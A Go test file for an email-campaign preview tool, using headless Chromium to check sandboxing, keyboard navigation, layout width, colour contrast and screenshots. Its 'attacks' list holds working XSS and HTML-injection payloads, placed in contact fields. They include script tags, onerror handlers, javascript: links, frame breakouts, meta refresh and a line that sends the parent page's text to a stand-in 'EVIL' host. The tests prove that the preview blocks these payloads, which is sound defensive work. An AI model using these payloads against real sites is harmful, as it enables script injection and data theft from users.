package preview

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// patience is how long a browser may take for one thing.
const patience = 2 * time.Minute

// browsers are the names that Chromium and its relatives go by.
var browsers = []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "headless-shell"}

// startBrowser returns the context of a browser's tab. Without a browser the test
// is skipped, unless HERALD_TEST_BROWSER is "required".
func startBrowser(t *testing.T) context.Context {
	t.Helper()
	path := ""
	for _, name := range browsers {
		if found, err := exec.LookPath(name); err == nil {
			path = found
			break
		}
	}
	switch {
	case path != "":
	case os.Getenv("HERALD_TEST_BROWSER") == "required":
		t.Fatalf("there is no browser here (%s), and HERALD_TEST_BROWSER says that there must be", strings.Join(browsers, ", "))
	default:
		t.Skipf("there is no browser here (%s); tools/browser.sh installs one on Debian", strings.Join(browsers, ", "))
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path),
		chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 900))
	ctx, stop := chromedp.NewExecAllocator(t.Context(), options...)
	t.Cleanup(stop)
	ctx, closeTab := chromedp.NewContext(ctx)
	t.Cleanup(closeTab)
	// The tab lives as long as the context of its first step.
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// TestInABrowser holds the page to what only a browser can say. One browser
// serves all: starting it takes longest.
func TestInABrowser(t *testing.T) {
	ctx := startBrowser(t)
	for _, test := range []struct {
		name string
		run  func(*testing.T, context.Context)
	}{
		{"contact data is powerless", contactDataIsPowerless},
		{"the attacks work", theAttacksWork},
		{"a person uses the page", aPersonUsesThePage},
		{"the page fits", thePageFits},
		{"text has contrast", textHasContrast},
		{"pictures are taken", picturesAreTaken},
	} {
		t.Run(test.name, func(t *testing.T) { test.run(t, ctx) })
	}
}

// do runs steps in the tab.
func do(t *testing.T, ctx context.Context, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

// eval returns what a script in the page returns, or resolves to.
func eval[T any](t *testing.T, ctx context.Context, script string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	value, err := chromedp.Run(ctx, chromedp.Evaluate[T](script, func(p *runtime.EvaluateParams) {
		p.AwaitPromise = new(true)
	}))
	if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	return value
}

// settle lets the page draw twice and then idle: whatever a document does on its
// own accord has been begun.
func settle(t *testing.T, ctx context.Context) {
	t.Helper()
	eval[bool](t, ctx, `new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(() => done(true), 100))))`)
}

// A listener is what contact data tries to reach.
type listener struct {
	*httptest.Server
	connections atomic.Int64
	requests    atomic.Int64
}

func listen(t *testing.T) *listener {
	t.Helper()
	l := &listener{}
	l.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		l.requests.Add(1)
		w.WriteHeader(http.StatusNoContent)
	}))
	l.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			l.connections.Add(1)
		}
	}
	l.Start()
	t.Cleanup(l.Close)
	return l
}

// attacks are contact data. EVIL stands for an address of another server, cover
// lays an element over the whole frame so that a click hits it.
var attacks = []struct {
	name, html string
	click      bool
	harmless   bool // this browser does nothing, even where nothing holds it back
}{
	{name: "script", html: `<script>document.title = "pwned"; fetch("EVIL/script", {mode: "no-cors"})</script>`},
	{name: "script from elsewhere", html: `<script src="EVIL/x.js"></script>`},
	{name: "onerror", html: `<img src="x:" onerror="document.title = 'pwned'; new Image().src = 'EVIL/onerror'">`},
	{name: "onload of svg", html: `<svg onload="document.title = 'pwned'; new Image().src = 'EVIL/svg'"></svg>`},
	{name: "a way out", html: `<script>top.location = "EVIL/top"</script>`},
	{name: "its parent", html: `<script>new Image().src = "EVIL/?" + encodeURIComponent(parent.document.body.innerText)</script>`},
	{name: "picture", html: `<img src="EVIL/pixel.gif">`},
	{name: "picture set", html: `<picture><source srcset="EVIL/set.png"><img src="data:,"></picture>`},
	{name: "style", html: `<p style="background-image: url(EVIL/style)">x</p>`},
	{name: "style sheet", html: `<style>@import url(EVIL/import.css); p { background: url(EVIL/rule) }</style><p>x</p>`},
	{name: "font", html: `<style>@font-face { font-family: f; src: url(EVIL/font) } p { font-family: f }</style><p>x</p>`},
	{name: "linked style", html: `<link rel="stylesheet" href="EVIL/linked.css">`},
	{name: "preload", html: `<link rel="preload" as="image" href="EVIL/preload">`},
	{name: "prefetch", html: `<link rel="prefetch" href="EVIL/prefetch">`},
	{name: "preconnect", html: `<link rel="preconnect" href="EVIL">`},
	{name: "preconnect in disguise", html: `<svg><style><LINK/rel="preconnect"/href="EVIL"></style></svg>`, harmless: true},
	{name: "meta refresh", html: `<meta http-equiv="refresh" content="0; url=EVIL/refresh">`},
	{name: "meta refresh to a script", html: `<meta http-equiv="refresh" content="0; url=javascript:top.document.title='pwned'">`, harmless: true},
	{name: "base", html: `<base href="EVIL/base/"><img src="relative.png">`},
	{name: "frame", html: `<iframe src="EVIL/frame"></iframe>`},
	{name: "frame with a document", html: `<iframe srcdoc="<img src='EVIL/srcdoc'><script>top.document.title='pwned'</script>"></iframe>`},
	{name: "object", html: `<object data="EVIL/object"></object>`},
	{name: "embed", html: `<embed src="EVIL/embed" type="text/html">`},
	{name: "video", html: `<video src="EVIL/video" poster="EVIL/poster" autoplay></video>`},
	{name: "audio", html: `<audio src="EVIL/audio" autoplay></audio>`},
	{name: "svg image", html: `<svg width="9" height="9"><image href="EVIL/svgimage" width="9" height="9"/></svg>`},
	{name: "input", html: `<input type="image" src="EVIL/input">`},
	{name: "link", html: `<a style="cover" href="EVIL/link">x</a>`, click: true},
	{name: "link in the same frame", html: `<a style="cover" target="_self" href="EVIL/self">x</a>`, click: true},
	{name: "link on top", html: `<a style="cover" target="_top" href="EVIL/top">x</a>`, click: true},
	{name: "link with a ping", html: `<a style="cover" href="#x" target="_self" ping="EVIL/ping">x</a>`, click: true},
	{name: "javascript link", html: `<a style="cover" target="_top" href="javascript:document.title='pwned';location='EVIL/js'">x</a>`, click: true},
	{name: "form", html: `<form action="EVIL/form" target="_self"><button style="cover">x</button></form>`, click: true},
	{name: "form on top", html: `<form action="EVIL/form" target="_top" method="post"><button style="cover">x</button></form>`, click: true},
	{name: "form of this page", html: `<form action="./" target="_top"><input name="line" value="3"><button style="cover">x</button></form>`, click: true, harmless: true},
	{name: "end of the frame", html: `"></iframe><script>document.title='pwned'; new Image().src='EVIL/broken'</script>`},
	{name: "end of the policy", html: `--></style></title></textarea></script><script>new Image().src='EVIL/closed'</script>`},
}

// attack returns the data of an attack on a server.
func attack(html, evil string) string {
	cover := "position: fixed; inset: 0; width: 100%; height: 100%; display: block"
	return strings.NewReplacer("EVIL", evil, `"cover"`, `"`+cover+`"`).Replace(html)
}

// contactDataIsPowerless looks at rows whose data attack whoever looks.
func contactDataIsPowerless(t *testing.T, ctx context.Context) {
	evil := listen(t)
	var rows bytes.Buffer
	for i, a := range attacks {
		row, err := json.Marshal(map[string]string{"id": fmt.Sprint("c", i), "first_name": attack(a.html, evil.URL)})
		if err != nil {
			t.Fatal(err)
		}
		rows.Write(append(row, '\n'))
	}
	s := serveFolder(t, folder(t, map[string]string{
		"contacts.jsonl": rows.String(),
		"campaign.yaml":  strings.NewReplacer("contacts.csv", "contacts.jsonl", "body.html", "body.txt", "Hi {{.first_name | default \\\"there\\\"}}", "Hi").Replace(emailCampaign),
		"body.txt":       "{{.first_name}}", // as it is: the message is the attack
	}))
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			address := s.URL(i + 1)
			do(t, ctx, chromedp.Navigate(address))
			title := eval[string](t, ctx, `document.title`)
			settle(t, ctx)
			if a.click {
				for range 2 { // a frame may be seen before it can be clicked
					if err := clickFrame(ctx); err != nil {
						t.Error(err)
					}
					settle(t, ctx)
				}
			}
			if n := evil.connections.Swap(0); n != 0 {
				t.Errorf("the other server was reached by %d connections and %d requests", n, evil.requests.Swap(0))
			}
			if now := eval[string](t, ctx, `document.title`); now != title || !strings.HasPrefix(now, "line ") {
				t.Errorf("the title was %q and is %q", title, now)
			}
			if now := eval[string](t, ctx, `location.href`); now != address {
				t.Errorf("the page was %s and is %s", address, now)
			}
		})
	}
}

// middle is where a click hits the message.
const middle = `(() => { const f = document.querySelector("iframe"); f.scrollIntoView({block: "center"});
	const b = f.getBoundingClientRect(); return [b.x + b.width / 2, b.y + Math.min(b.height, innerHeight - b.y) / 2] })()`

// clickFrame clicks into the middle of the message.
func clickFrame(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	at, err := chromedp.Run(ctx, chromedp.Evaluate[[]float64](middle))
	if err != nil {
		return err
	}
	return chromedp.Do(ctx, chromedp.MouseClickXY(at[0], at[1]))
}

// theAttacksWork proves that the test above can fail: shown without any
// protection, the same data reach the other server.
func theAttacksWork(t *testing.T, ctx context.Context) {
	for _, a := range attacks {
		if a.harmless {
			continue
		}
		t.Run(a.name, func(t *testing.T) {
			evil := listen(t)
			naive := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				if r.URL.Path == "/message" {
					fmt.Fprint(w, `<!DOCTYPE html><body>`+attack(a.html, evil.URL))
					return
				}
				fmt.Fprint(w, `<!DOCTYPE html><body><iframe src="/message" width="600" height="400"></iframe>`)
			}))
			defer naive.Close()
			// A tab of its own: where an attack leads its tab must not keep the next
			// one from being shown.
			tab, closeTab := chromedp.NewContext(ctx)
			defer closeTab()
			if err := chromedp.Do(tab, chromedp.Navigate("about:blank")); err != nil {
				t.Fatal(err)
			}
			// What it is about may have led the tab away before the page was complete.
			soon, cancel := context.WithTimeout(tab, patience)
			defer cancel()
			_ = chromedp.Do(soon, chromedp.Navigate(naive.URL))
			waitFor(t, func() bool {
				if a.click && evil.connections.Load() == 0 {
					_ = clickFrame(tab) // perhaps it has worked by now, and there is no frame any more
				}
				return evil.connections.Load() > 0
			})
		})
	}
}

// waitFor waits until something is so, looking often.
func waitFor(t *testing.T, so func() bool) {
	t.Helper()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	end := time.After(patience)
	for !so() {
		select {
		case <-tick.C:
		case <-end:
			t.Fatal("it did not happen")
		}
	}
}

// aPersonUsesThePage uses the page as a person does.
func aPersonUsesThePage(t *testing.T, ctx context.Context) {
	dir := folder(t, map[string]string{"contacts.csv": csv(300)})
	s := serveFolder(t, dir)
	heading := func() string { return eval[string](t, ctx, `document.querySelector("aside h2").textContent`) }
	expect := func(want string) {
		t.Helper()
		script := fmt.Sprintf(`document.readyState === "complete" && document.body.innerText.includes(%q)`, want)
		waitFor(t, func() bool {
			so, err := chromedp.Run(ctx, chromedp.Evaluate[bool](script))
			return err == nil && so // between two pages there is none to ask
		})
	}
	do(t, ctx, chromedp.Navigate(s.Ticket(2)))
	if heading() != "Line 2" {
		t.Fatalf("it begins with %s", heading())
	}
	do(t, ctx, chromedp.KeyEvent("n"))
	expect("Line 3")
	do(t, ctx, chromedp.KeyEvent("n"))
	expect("Line 4")
	do(t, ctx, chromedp.KeyEvent("p"))
	expect("Line 3")
	do(t, ctx, chromedp.KeyEvent("/"))
	if id := eval[string](t, ctx, `document.activeElement.id`); id != "find" {
		t.Errorf("after /, the focus is on %q", id)
	}
	do(t, ctx, chromedp.SetValue(chromedp.CSS("#find"), "Name250"), chromedp.KeyEvent("\r"))
	expect("Line 250")
	do(t, ctx, chromedp.Click(chromedp.CSS("#next")))
	expect("Line 251")
	if id := eval[string](t, ctx, `document.activeElement.id`); id != "next" {
		t.Errorf("after a click on next, the focus is on %q", id)
	}
	write(t, dir, map[string]string{"campaign.yaml": strings.Replace(emailCampaign, "Hi ", "Good day ", 1)})
	expect("Good day Name251")
	if errs := eval[int](t, ctx, `document.querySelectorAll("[id]").length - new Set([...document.querySelectorAll("[id]")].map((e) => e.id)).size`); errs != 0 {
		t.Errorf("%d ids are not unique", errs)
	}
	go func() { _ = s.Close() }()
	expect("herald has ended")
}

// thePageFits looks for what is wider than a narrow window.
func thePageFits(t *testing.T, ctx context.Context) {
	s := serveFolder(t, sights(t))
	for _, width := range []int64{360, 1280} {
		for _, line := range []int{2, 4, 7} {
			for _, screen := range []string{"desktop", "phone"} {
				do(t, ctx, chromedp.EmulateViewport(width, 800), chromedp.Navigate(s.URL(line)+"&sample=1&width="+screen))
				if over := eval[int](t, ctx, `document.documentElement.scrollWidth - innerWidth`); over > 0 {
					t.Errorf("line %d on a %s at %d px is %d px too wide", line, screen, width, over)
				}
			}
		}
	}
}

// textHasContrast holds all text to 4.5:1, which WCAG 2.2 asks for (1.4.3), in both
// themes.
func textHasContrast(t *testing.T, ctx context.Context) {
	s := serveFolder(t, sights(t))
	for _, theme := range []string{"light", "dark"} {
		prefer(t, ctx, theme)
		for _, line := range []int{2, 4, 5} {
			do(t, ctx, chromedp.Navigate(s.URL(line)+"&sample=1"))
			for _, poor := range eval[[]string](t, ctx, contrast) {
				t.Errorf("%s, line %d: %s", theme, line, poor)
			}
		}
	}
}

// contrast lists the texts of a page whose colours are too near to each other.
const contrast = `(() => {
	const rgb = (c) => c.match(/[\d.]+/g).map(Number);
	const luminance = (c) => rgb(c).slice(0, 3).map((v) => v / 255)
		.map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
		.reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
	const ground = (e) => { for (; e; e = e.parentElement) { const c = getComputedStyle(e).backgroundColor;
		if ((rgb(c)[3] ?? 1) > 0) return c } return "rgb(255, 255, 255)" };
	return [...document.querySelectorAll("body *")].filter((e) => [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim()))
		.map((e) => { const [a, b] = [luminance(getComputedStyle(e).color), luminance(ground(e))].sort((x, y) => y - x);
			return [(a + 0.05) / (b + 0.05), e] })
		.filter(([ratio]) => ratio < 4.5).map(([ratio, e]) => e.tagName + " " + e.className + " " + e.textContent.slice(0, 40) + " " + ratio.toFixed(2));
})()`

// prefer sets the theme that the page is told.
func prefer(t *testing.T, ctx context.Context, theme string) {
	t.Helper()
	_, err := chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
		Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: theme}},
	})
	if err != nil {
		t.Fatal(err)
	}
}

// sights is a campaign whose rows are worth a picture each.
func sights(t *testing.T) string {
	t.Helper()
	return folder(t, map[string]string{
		"contacts.csv": "id,first_name,country,plan,company,a rather long name of a column,notes\n" +
			"6329f3a1b2c3d4e5f6a7b8c2,Maria,DE,gold,Acme Ltd,1,\"Called on Monday,\nwants the blue one.\"\n" +
			"6329f3a1b2c3d4e5f6a7b8c4,,FR,,,2,\n" +
			",Jürgen,AT,silver,Müller & Söhne,3,has no id\n" +
			"6329f3a1b2c3d4e5f6a7b8c6,Only,three columns\n" +
			"6329f3a1b2c3d4e5f6a7b8c7," + strings.Repeat("Donaudampfschifffahrt", 6) + ",DE,gold,x,4,https://example.com/" + strings.Repeat("a-long-address/", 8) + "\n",
		"body.html": `<h1>Hello {{.first_name | default "there"}},</h1>
<p>the spring collection is here. {{if .plan}}With your <b>{{.plan}}</b> plan you may look at it <a href="https://example.com/spring">before everybody else</a>.{{end}}</p>
<p><img src="https://example.com/spring.jpg" width="560" height="160" alt="A meadow in May"></p>
<table cellpadding="8"><tr><td style="background:#fff3d6;color:#222">New</td><td>Rain coats</td></tr><tr><td style="background:#e3f4e1;color:#222">Back</td><td>Straw hats</td></tr></table>
<p>Best,<br>Anna</p>
<p style="font-size:12px;color:#777">You get this because you have an account with us. <a href="https://example.com/stop">No more of this</a></p>`,
	})
}

// picturesAreTaken takes pictures of the page for people to look at, into the folder
// that HERALD_PICTURES names.
func picturesAreTaken(t *testing.T, ctx context.Context) {
	out := os.Getenv("HERALD_PICTURES")
	if out == "" {
		t.Skip("HERALD_PICTURES names no folder")
	}
	dir := sights(t)
	s := serveFolder(t, dir)
	inApp := sights(t)
	write(t, inApp, map[string]string{
		"campaign.yaml": strings.NewReplacer("type: email", "type: in_app", "  template: personal\n", "").Replace(emailCampaign),
		"body.html":     `<p>Hello {{.first_name | default "there"}}, the spring collection is here.</p><p><a href="https://example.com">Have a look</a></p>`,
	})
	broken := sights(t)
	b := serveFolder(t, broken)
	a := serveFolder(t, inApp)
	write(t, broken, map[string]string{"body.html": "<p>{{.last_nam}}</p>{{if}}"})
	waitFor(t, func() bool { return b.current.Load().err != nil })
	for _, picture := range []struct {
		name    string
		width   int64
		theme   string
		address string
	}{
		{"desktop", 1280, "light", s.URL(2)},
		{"desktop-dark", 1280, "dark", s.URL(2) + "&theme=dark"},
		{"phone-frame", 1280, "light", s.URL(2) + "&width=phone"},
		{"narrow", 360, "light", s.URL(2)},
		{"narrow-dark", 360, "dark", s.URL(2) + "&theme=dark&width=phone"},
		{"sparse", 1280, "light", s.URL(4) + "&sample=1"},
		{"problems", 1280, "light", s.URL(5)},
		{"problems-dark", 1280, "dark", s.URL(6)},
		{"narrow-problems", 360, "light", s.URL(5)},
		{"long", 1280, "light", s.URL(7)},
		{"nobody", 1280, "light", s.URL(0) + "?in=any&find=nobody&line=2"},
		{"in-app", 1280, "light", a.URL(2)},
		{"in-app-dark", 1280, "dark", a.URL(2) + "&theme=dark&width=phone"},
		{"broken", 1280, "light", b.URL(2)},
	} {
		prefer(t, ctx, picture.theme)
		do(t, ctx, chromedp.EmulateViewport(picture.width, 800), chromedp.Navigate(picture.address))
		settle(t, ctx)
		ctx, cancel := context.WithTimeout(ctx, patience)
		image, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
		cancel()
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(out, picture.name+".png"), image, 0o600); err != nil {
			t.Fatal(err)
		}
	}
}
